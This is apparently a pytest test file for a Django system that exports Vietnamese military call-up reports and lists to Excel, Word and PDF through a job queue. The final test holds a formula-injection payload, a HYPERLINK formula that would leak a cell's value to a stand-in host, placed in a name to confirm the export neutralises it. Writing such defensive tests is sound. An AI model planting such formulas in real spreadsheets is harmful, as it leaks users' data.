"""Exports rendered for real by the worker, read back with openpyxl, python-docx and pdftotext;
the export jobs through muster.jobs (claim, progress, failure, the thread started on commit,
the commands)."""

from __future__ import annotations

import datetime as dt
import io
import subprocess

import docx
import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.urls import reverse

from muster.accounts.models import Role
from muster.audit.models import AuditEvent
from muster.conscription.campaign.models import Campaign
from muster.documents.tables import Kind, format_cell
from muster.jobs import runner as jobs_runner
from muster.jobs import services as jobs
from muster.jobs.models import Job, JobState
from muster.reports import lists as reports_lists
from muster.reports import selectors, services
from tests.concurrency import needs_postgres, run_threads
from tests.conftest import PASSWORD, make_user
from tests.reports.scenario import GROUNDS_DEFER, Scenario

GROUND_ORDER = list(GROUNDS_DEFER)


@pytest.fixture
def scenario(units):
    return Scenario(units, people=60)


@pytest.fixture
def officer(units):
    return make_user("x.officer", Role.DISTRICT_OFFICER, units["KD"])


def export(user, scenario, kind, fmt, unit=None) -> Job:
    campaign = Campaign.objects.get(pk=scenario.campaign.pk)
    job = services.export_request(
        actor=user, campaign=campaign, unit=unit or campaign.unit, kind=kind, fmt=fmt
    )
    assert job.state == JobState.QUEUED and job.task_id
    assert job.kind == f"reports.{kind}"
    assert job.params == {"campaign": str(campaign.public_id), "fmt": fmt}
    assert jobs.drain(worker="test") >= 1
    job.refresh_from_db()
    assert job.state == JobState.DONE, job.error
    assert job.progress == 100 and job.attempts == 1 and job.worker == "test"
    return job


def pdf_text(data: bytes, tmp_path) -> str:
    path = tmp_path / "out.pdf"
    path.write_bytes(data)
    fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, text=True, check=True)
    assert "DejaVu" in fonts.stdout
    for line in fonts.stdout.splitlines()[2:]:
        assert " yes " in line, f"font not embedded: {line}"
    return subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout


def cells(ws) -> list[list[object]]:
    return [[c.value for c in row] for row in ws.iter_rows()]


def test_results_workbook_has_the_report_in_formatted_sheets(scenario, officer):
    report = selectors.results_report(
        user=officer, campaign=scenario.campaign, unit=scenario.campaign.unit
    )
    job = export(officer, scenario, "results", "xlsx")
    assert job.filename == "Báo cáo kết quả tuyển quân 2025 - Kim Động.xlsx"
    wb = openpyxl.load_workbook(io.BytesIO(bytes(job.content)))
    assert wb.sheetnames == [
        "Tổng hợp",
        "Đăng ký, khám",
        "Phân loại sức khỏe",
        "Tạm hoãn, miễn",
        "Chỉ tiêu, quyết định",
        "Giao quân, bù đổi",
        "Chất lượng",
        "Vi phạm",
    ]
    summary = wb["Tổng hợp"]
    values = cells(summary)
    flat = [v for row in values for v in row if v is not None]
    assert "UBND HUYỆN KIM ĐỘNG" in flat and "Độc lập - Tự do - Hạnh phúc" in flat
    assert "BÁO CÁO KẾT QUẢ TUYỂN CHỌN VÀ GỌI CÔNG DÂN NHẬP NGŨ NĂM 2025" in flat
    assert summary.merged_cells.ranges, "title rows are merged"
    assert summary.print_area is not None and summary.column_dimensions["B"].width == 60
    rows = {row[1]: row for row in values if isinstance(row[1], str)}
    examined = rows["Đã khám tại Hội đồng khám sức khỏe"]
    assert examined[2] == report.total["examined"]
    met = rows["Tỷ lệ đạt chỉ tiêu, %"]
    assert met[2] == pytest.approx(float(report.total["percent_met"]))
    number_formats = {
        summary.cell(row=r, column=3).number_format
        for r in range(1, summary.max_row + 1)
        if isinstance(summary.cell(row=r, column=3).value, int | float)
    }
    assert number_formats == {"#,##0", '0.0"%"'}
    health = wb["Phân loại sức khỏe"]
    by_name = {row[1]: row for row in cells(health) if isinstance(row[1], str)}
    line = next(line for line in report.lines if line.name == "Đức Hợp")
    assert by_name["Đức Hợp"][2:8] == [line.values[f"class_{k}"] for k in range(1, 7)]
    assert by_name["Tổng cộng"][2] == report.total["class_1"]
    folded = next(k for k in by_name if isinstance(k, str) and k.startswith("Phú Thọ"))
    assert folded == "Phú Thọ (Phú Thịnh, Thọ Vinh)"


def test_results_word_report_in_the_official_layout(scenario, officer):
    report = selectors.results_report(
        user=officer, campaign=scenario.campaign, unit=scenario.campaign.unit
    )
    job = export(officer, scenario, "results", "docx")
    document = docx.Document(io.BytesIO(bytes(job.content)))
    header = document.tables[0]
    left, right = (c.text for c in header.rows[0].cells)
    assert "UBND HUYỆN KIM ĐỘNG" in left and "BAN CHỈ HUY QUÂN SỰ" in left and "Số:" in left
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in right and "Độc lập - Tự do - Hạnh phúc" in right
    assert "Kim Động, ngày" in right
    text = "\n".join(p.text for p in document.paragraphs)
    assert "BÁO CÁO" in text and "Kết quả tuyển chọn và gọi công dân nhập ngũ năm 2025" in text
    assert "I. KẾT QUẢ CHUNG" in text and "III. SO SÁNH VỚI NĂM 2024" in text
    registered = format_cell(report.total["registered"], Kind.INT)
    assert f"đã đăng ký: {registered}" in text
    per_commune = document.tables[1]
    rows = {r.cells[0].text: [c.text for c in r.cells] for r in per_commune.rows}
    line = next(line for line in report.lines if line.name == "Đức Hợp")
    assert rows["Đức Hợp"][1] == format_cell(line.values["registered"], Kind.INT)
    assert rows["Tổng cộng"][5] == format_cell(report.total["quota_total"], Kind.INT)
    closing = document.tables[-1].rows[0].cells
    assert "Nơi nhận" in closing[0].text and "CHỈ HUY TRƯỞNG" in closing[1].text


def test_results_pdf_has_embedded_fonts_and_vietnamese_text(scenario, officer, tmp_path):
    job = export(officer, scenario, "results", "pdf")
    text = pdf_text(bytes(job.content), tmp_path)
    for phrase in (
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "BÁO CÁO KẾT QUẢ TUYỂN CHỌN VÀ GỌI CÔNG DÂN NHẬP NGŨ",
        "Đã khám tại Hội đồng khám sức khỏe",
        "TẠM HOÃN, MIỄN GỌI NHẬP NGŨ THEO TỪNG DIỆN",
        "Phú Thọ (Phú",  # the folded communes, wrapped in the cell
        "Thịnh, Thọ Vinh)",
        "Đức Hợp",
        "Tổng cộng",
    ):
        assert phrase in text, phrase


def test_evenness_exports(scenario, officer, tmp_path):
    report = selectors.results_report(
        user=officer, campaign=scenario.campaign, unit=scenario.campaign.unit
    )
    xlsx = export(officer, scenario, "evenness", "xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(bytes(xlsx.content))).active
    rows = {row[1]: row for row in cells(ws) if isinstance(row[1], str)}
    line = next(line for line in report.lines if line.name == "Đồng Thanh")
    assert rows["Đồng Thanh"][3] == line.values["quota_total"]
    assert rows["Đồng Thanh"][4] == pytest.approx(float(line.values["planned_rate"]))
    notes = [row[0] for row in cells(ws) if isinstance(row[0], str)]
    assert any(n.startswith("Tỷ lệ gọi (chỉ tiêu ÷ nguồn): 15 xã") for n in notes)
    pdf = export(officer, scenario, "evenness", "pdf")
    text = pdf_text(bytes(pdf.content), tmp_path)
    assert "TÍNH ĐỒNG ĐỀU, ỔN ĐỊNH CHỈ TIÊU GIAO QUÂN GIỮA CÁC XÃ" in text
    assert "độ lệch chuẩn" in text


def test_list_exports(scenario, officer, tmp_path):
    callup = reports_lists.callup_list(
        user=officer, campaign=scenario.campaign, unit=scenario.campaign.unit
    )
    job = export(officer, scenario, "callup_list", "xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(bytes(job.content))).active
    names = [row[1] for row in cells(ws) if isinstance(row[0], int)]
    assert names == [e.person.full_name for e in callup]
    assert any(row[10] == "Danh sách chính thức (đã chốt)" for row in cells(ws))
    deferrals = reports_lists.dossier_list(
        user=officer, campaign=scenario.campaign, unit=scenario.campaign.unit, kind="deferral"
    )
    job = export(officer, scenario, "deferral_list", "pdf")
    text = pdf_text(bytes(job.content), tmp_path)
    assert "DANH SÁCH CÔNG DÂN ĐƯỢC TẠM HOÃN GỌI NHẬP NGŨ NĂM 2025" in text
    for entry in deferrals[:5]:
        assert entry.dossier.person.full_name in text
    expected = {
        d["person"].pk
        for d in scenario.made.dossiers
        if d["kind"] == "deferral"
        and d["state"] in ("granted", "ended")
        and d["decision"] <= scenario.campaign.handover_start
        and (d["end"] is None or d["end"] > scenario.campaign.handover_start)
        and (d["ended_on"] is None or d["ended_on"] > scenario.campaign.handover_start)
    }
    assert {e.dossier.person_id for e in deferrals} == expected
    job = export(officer, scenario, "deferral_list", "xlsx")
    rows = [r for r in cells(openpyxl.load_workbook(io.BytesIO(bytes(job.content))).active)
            if isinstance(r[0], int)]  # fmt: skip
    assert [r[1] for r in rows] == [e.dossier.person.full_name for e in deferrals]
    assert {r[9] for r in rows} == {"Chủ tịch UBND cấp huyện"}  # who decided, on that day
    assert [r[5] for r in rows] == sorted((r[5] for r in rows), key=GROUND_ORDER.index)


def test_a_commune_export_is_the_commune_only(scenario, personas):
    commander = personas["commune_commander"]
    job = export(commander, scenario, "results", "xlsx", unit=scenario.units["DHOP"])
    ws = openpyxl.load_workbook(io.BytesIO(bytes(job.content)))["Đăng ký, khám"]
    communes = [row[1] for row in cells(ws) if isinstance(row[0], int)]
    assert communes == ["Đức Hợp"]
    assert "Tổng cộng" not in [row[1] for row in cells(ws)]


def test_export_requests_are_checked_and_audited(scenario, personas, units):
    commander = personas["commune_commander"]
    campaign = Campaign.objects.get(pk=scenario.campaign.pk)
    with pytest.raises(ValidationError) as error:
        services.export_request(
            actor=commander, campaign=campaign, unit=units["DT"], kind="results", fmt="xlsx"
        )
    assert "unit" in error.value.message_dict
    with pytest.raises(ValidationError) as error:
        services.export_request(
            actor=commander, campaign=campaign, unit=units["DHOP"], kind="evenness", fmt="docx"
        )
    assert "fmt" in error.value.message_dict
    assert not Job.objects.exists()
    job = services.export_request(
        actor=commander, campaign=campaign, unit=units["DHOP"], kind="results", fmt="pdf"
    )
    event = AuditEvent.objects.get(action="reports.export")
    assert event.object_id == str(job.public_id) and event.actor_label == commander.username


def test_a_worker_never_takes_a_job_already_claimed(scenario, officer):
    campaign = Campaign.objects.get(pk=scenario.campaign.pk)
    asked = [
        services.export_request(
            actor=officer, campaign=campaign, unit=campaign.unit, kind="evenness", fmt="xlsx"
        )
        for _ in range(2)
    ]
    first = jobs_runner.claim(asked[0].pk, "a")
    assert first is not None and first.worker == "a"
    assert (
        jobs_runner.claim(asked[0].pk, "b") is None
    )  # already running: the UPDATE changes nothing
    assert jobs_runner.run(first).state == JobState.DONE
    # The tasks are delivered: the first finds its job taken and skips it, the second runs.
    assert jobs.drain(worker="c") == 2
    first.refresh_from_db()
    assert first.worker == "a" and first.attempts == 1
    assert Job.objects.get(pk=asked[1].pk).worker == "c"


def test_a_failure_is_kept_and_leaves_no_file(scenario, personas, units):
    commander = personas["commune_commander"]
    campaign = Campaign.objects.get(pk=scenario.campaign.pk)
    job = services.export_request(
        actor=commander, campaign=campaign, unit=units["DHOP"], kind="results", fmt="xlsx"
    )
    # The commander is moved to another commune before the worker runs.
    commander.scope_unit = units["DT"]
    commander.save(update_fields=["scope_unit"])
    jobs.drain(worker="test")
    job.refresh_from_db()
    assert job.state == JobState.FAILED and "PermissionError" in job.error
    assert bytes(job.content) == b"" and job.filename == ""


def test_stale_running_jobs_are_put_back(scenario, officer):
    campaign = Campaign.objects.get(pk=scenario.campaign.pk)
    job = services.export_request(
        actor=officer, campaign=campaign, unit=campaign.unit, kind="evenness", fmt="pdf"
    )
    jobs_runner.claim(job.pk, "dead-worker")
    later = dt.datetime.now(dt.UTC) + jobs.STALE_AFTER + dt.timedelta(minutes=1)
    assert jobs.requeue_stale(now=dt.datetime.now(dt.UTC)) == 0
    assert jobs.requeue_stale(now=later) == 1
    job.refresh_from_db()
    assert job.state == JobState.QUEUED
    call_command("run_exports", "--once", stdout=io.StringIO())
    job.refresh_from_db()
    assert job.state == JobState.DONE and job.attempts == 2


@pytest.mark.django_db(transaction=True)
def test_the_page_starts_a_worker_on_commit_and_offers_the_download(client, units):
    """The real path: POST from the page, the worker thread renders the file after commit,
    the status fragment (polled by htmx) shows the link, the owner downloads it."""
    scenario = Scenario(units, people=30)
    officer = make_user("t.officer", Role.DISTRICT_OFFICER, units["KD"])
    client.login(username=officer.username, password=PASSWORD)
    campaign = scenario.campaign
    response = client.post(
        reverse("reports:export_create", kwargs={"public_id": campaign.public_id}),
        {"kind": "results", "fmt": "xlsx", "unit": str(units["KD"].public_id)},
    )
    assert response.status_code == 302
    job = Job.objects.get()
    assert response["Location"] == reverse(
        "reports:export_detail", kwargs={"public_id": job.public_id}
    )
    assert jobs.wait_for_workers(timeout=60)
    job.refresh_from_db()
    assert job.state == JobState.DONE, job.error
    assert job.worker.startswith("thread:")
    status = client.get(reverse("reports:export_status", kwargs={"public_id": job.public_id}))
    assert 'data-state="done"' in status.content.decode()
    assert "hx-get" not in status.content.decode()  # polling stops when the file is ready
    download = client.get(reverse("reports:export_download", kwargs={"public_id": job.public_id}))
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment;")
    assert openpyxl.load_workbook(io.BytesIO(download.content)).sheetnames[0] == "Tổng hợp"


@pytest.mark.django_db(transaction=True)
def test_a_queued_job_is_polled_until_ready(client, units, settings):
    settings.MUSTER_JOB_THREADS = False
    scenario = Scenario(units, people=10)
    officer = make_user("u.officer", Role.DISTRICT_OFFICER, units["KD"])
    client.login(username=officer.username, password=PASSWORD)
    client.post(
        reverse("reports:export_create", kwargs={"public_id": scenario.campaign.public_id}),
        {"kind": "evenness", "fmt": "pdf"},
    )
    job = Job.objects.get()
    url = reverse("reports:export_status", kwargs={"public_id": job.public_id})
    page = client.get(url).content.decode()
    assert 'data-state="queued"' in page and 'hx-trigger="every 1s"' in page
    assert '<meta http-equiv="refresh"' in page  # without JavaScript the page reloads
    download = reverse("reports:export_download", kwargs={"public_id": job.public_id})
    assert client.get(download).status_code == 404  # not ready yet
    call_command("run_exports", "--once", stdout=io.StringIO())
    assert 'data-state="done"' in client.get(url).content.decode()
    assert client.get(download)["Content-Type"] == "application/pdf"


@pytest.mark.postgres_only
@pytest.mark.django_db(transaction=True)
def test_two_workers_share_the_queue_without_taking_a_job_twice(units, settings):
    needs_postgres("concurrent writers")
    scenario = Scenario(units, people=10)
    officer = make_user("w.officer", Role.DISTRICT_OFFICER, units["KD"])
    campaign = scenario.campaign
    settings.MUSTER_JOB_THREADS = False
    for _ in range(12):
        services.export_request(
            actor=officer, campaign=campaign, unit=campaign.unit, kind="evenness", fmt="xlsx"
        )
    done: dict[str, int] = {}

    def work(index: int) -> None:
        name = ("w1", "w2")[index]
        done[name] = jobs.drain(worker=name)

    assert run_threads(2, work) == []
    assert sum(done.values()) == 12
    done_jobs = list(Job.objects.all())
    assert all(j.state == JobState.DONE and j.attempts == 1 for j in done_jobs)
    assert {j.worker for j in done_jobs} <= {"w1", "w2"}


SOFFICE = "/usr/bin/soffice"


@pytest.mark.parametrize(
    "kind,fmt", [("results", "docx"), ("results", "xlsx"), ("evenness", "xlsx")]
)
def test_exports_open_in_libreoffice_with_vietnamese_text(scenario, officer, tmp_path, kind, fmt):
    """What an office does with the file: LibreOffice opens it (converted headless to PDF) and
    the Vietnamese survives, with the commune names and the official header."""
    import os

    assert os.path.exists(SOFFICE), "install LibreOffice (make browser-deps does)"
    job = export(officer, scenario, kind, fmt)
    source = tmp_path / f"export.{fmt}"
    source.write_bytes(bytes(job.content))
    subprocess.run(
        [SOFFICE, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
         "--convert-to", "pdf", "--outdir", str(tmp_path), str(source)],
        capture_output=True, check=True, timeout=180,
    )  # fmt: skip
    text = subprocess.run(
        ["pdftotext", str(tmp_path / "export.pdf"), "-"], capture_output=True, text=True, check=True
    ).stdout
    for expected in ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Đức Hợp", "Đồng Thanh"):
        assert expected in text, (expected, text[:400])


def test_long_text_wraps_inside_its_column(scenario, officer):
    """A ground's legal wording is longer than its column: it wraps instead of running over."""
    job = export(officer, scenario, "deferral_list", "xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(bytes(job.content))).active
    widths = {k: d.width for k, d in ws.column_dimensions.items()}
    long_cells = [
        c
        for row in ws.iter_rows(min_row=8)
        for c in row
        if isinstance(c.value, str) and len(c.value) > (widths.get(c.column_letter) or 14)
        and c.coordinate not in ws.merged_cells
    ]  # fmt: skip
    assert long_cells
    assert all(c.alignment.wrap_text for c in long_cells)


def test_a_formula_in_a_name_is_text_in_the_call_up_list(scenario, officer):
    """Formula injection: the call-up list export writes a hostile name as text."""
    entry = reports_lists.callup_list(
        user=officer, campaign=scenario.campaign, unit=scenario.campaign.unit
    )[0]
    name = '=HYPERLINK("http://x/?"&C9,"y")'
    type(entry.person).objects.filter(pk=entry.person.pk).update(full_name=name)
    job = export(officer, scenario, "callup_list", "xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(bytes(job.content))).active
    found = [c for row in ws.iter_rows() for c in row if c.value == name]
    assert len(found) == 1 and found[0].data_type == "s" and found[0].quotePrefix
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
